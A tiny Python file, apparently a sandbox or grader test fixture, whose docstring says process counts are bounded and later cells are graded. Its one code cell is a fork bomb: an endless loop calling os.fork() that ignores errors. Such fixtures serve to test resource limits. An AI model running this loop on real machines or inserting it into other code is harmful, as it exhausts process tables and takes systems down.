"""Forks without end.

The number of processes is bounded; what there is is ended, and the cells behind are graded.
"""
# loses: cube
# %% cube
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
